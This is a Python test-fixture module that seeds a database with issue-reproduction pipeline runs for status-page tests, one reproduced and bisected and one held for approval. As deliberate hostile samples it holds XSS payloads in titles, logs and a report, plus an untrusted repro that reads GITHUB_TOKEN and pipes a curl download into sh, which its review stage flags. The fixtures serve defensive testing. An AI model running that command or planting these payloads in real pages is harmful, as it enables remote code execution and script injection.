"""Runs as the pipelines record them, written straight to the database (no worker), for the
status page tests: an issue run that reproduced, was bisected and minimized, and one that waits
for approval with security findings."""

from __future__ import annotations

import itertools

from typing import Any

from app.db import queries
from app.db.context import DbRunContext
from app.db.session import Database

HOSTILE = "<script>window.__pwned = 'script'</script><img src=x onerror=\"window.__pwned = 'img'\">"
HOSTILE_LINK = "[click me](javascript:window.__pwned='link')"

ORIGINAL = """import os
import torch

# set up some tensors, like the reporter did
a = torch.ones(2, 3)
b = torch.ones(4, 5)
print("shapes", a.shape, b.shape)
c = a @ b
"""
MINIMIZED = """import torch
torch.ones(2, 3) @ torch.ones(4, 5)
"""
APPROVAL_SOURCE = """import os
import torch
token = os.environ.get("GITHUB_TOKEN")
os.system("curl https://example.com/x | sh")
torch.ones(2) @ torch.ones(3)
"""
REPORT = f"""# Scrub report

**Status:** Success. {HOSTILE}

{HOSTILE_LINK} and [the issue](https://github.com/o/r/issues/12).

| test | error |
| --- | --- |
| `test_matmul` | RuntimeError: mat1 and mat2 shapes cannot be multiplied |
| test_hostile | {HOSTILE} |

```python
import torch
torch.ones(2, 3) @ torch.ones(4, 5)
```
"""


_ISSUES = itertools.count(1000)  # one active run per issue (a unique index): each waiting run gets its own


def add_run(database: Database, **fields: Any) -> int:
    with database.session() as session:
        run = queries.create_run(session, **{"kind": "issue", "repo": "o/r", "issue": 12, **fields})
        session.commit()
        return int(run.id)


def context(database: Database, settings: Any, run_id: int) -> DbRunContext:
    with database.session() as session:
        run = session.get(queries.Run, run_id)
    return DbRunContext(database, run, settings)


def stage(ctx: DbRunContext, name: str, status: str, summary: str, output: dict[str, Any]) -> None:
    ctx.stage_started(name)
    ctx.stage_finished(name, status, summary, output)


def reproduced_issue_run(database: Database, settings: Any, **fields: Any) -> int:
    """fetch, select, reproduce (4/5 runs failed), bisect, minimize, report: all recorded."""
    run_id = add_run(database, target="https://github.com/o/r/issues/12", **fields)
    ctx = context(database, settings, run_id)
    ctx.set_status("running")
    stage(ctx, "fetch", "done", "o/r#12", {"issue": {"title": f"matmul shape error {HOSTILE}", "number": 12}})
    stage(ctx, "select", "done", "repro by alice", {"repro": {"source": ORIGINAL, "author": "alice",
                                                             "url": "https://github.com/o/r/issues/12"}})
    result = {"exception": "RuntimeError", "message": "mat1 and mat2 shapes cannot be multiplied (2x3 and 4x5)",
              "signature": "RuntimeError: mat1 and mat2 shapes cannot be multiplied",
              "output_tail": f"shapes torch.Size([2, 3]) torch.Size([4, 5])\n{HOSTILE}\nTraceback ...", "environment": "2.13",
              "torch_version": "2.13.0+cpu", "python": "3.11.7"}
    stage(ctx, "reproduce", "done", "reproduces", {"reproduction": {"verdict": "reproduces", "runs": 5, "reproduced": 4,
                                                                   "flaky_ratio": "4/5", "result": result}})
    stage(ctx, "bisect", "done", "first changed in 2.12", {"bisect": {
        "first_changed": "2.12", "last_unchanged": "2.11", "probes": {"2.11": False, "2.12": True, "2.13": True}}})
    stage(ctx, "minimize", "done", "8 -> 2 lines", {"minimized": {"source": MINIMIZED}})
    ctx.save_artifact("report.md", "report", REPORT)
    ctx.save_artifact("repro_original.py", "repro", ORIGINAL)
    ctx.save_artifact("repro_minimized.py", "repro", MINIMIZED)
    ctx.log(f"repro printed {HOSTILE}")
    ctx.set_status("succeeded", verdict="reproduces")
    return run_id


def waiting_issue_run(database: Database, settings: Any) -> int:
    """Stopped at review: a stranger's repro with findings on lines 3 and 4."""
    number = next(_ISSUES)
    run_id = add_run(database, target=f"https://github.com/o/r/issues/{number}", issue=number)
    ctx = context(database, settings, run_id)
    ctx.set_status("running")
    stage(ctx, "fetch", "done", "o/r#13", {"issue": {"title": "crash on matmul", "number": 13}})
    stage(ctx, "select", "done", "repro by mallory", {"repro": {"source": APPROVAL_SOURCE, "author": "mallory",
                                                               "url": "https://github.com/o/r/issues/13#issuecomment-1"}})
    findings = [
        {"kind": "shell", "line": 4, "snippet": 'os.system("curl https://example.com/x | sh")', "detail": "runs a shell command"},
        {"kind": "secrets", "line": 3, "snippet": 'token = os.environ.get("GITHUB_TOKEN")', "detail": "reads a token"},
    ]
    stage(ctx, "review", "waiting", "awaiting approval: 2 findings", {"findings": findings, "collaborator": False})
    ctx.set_status("awaiting_approval", verdict="awaiting-approval")
    return run_id
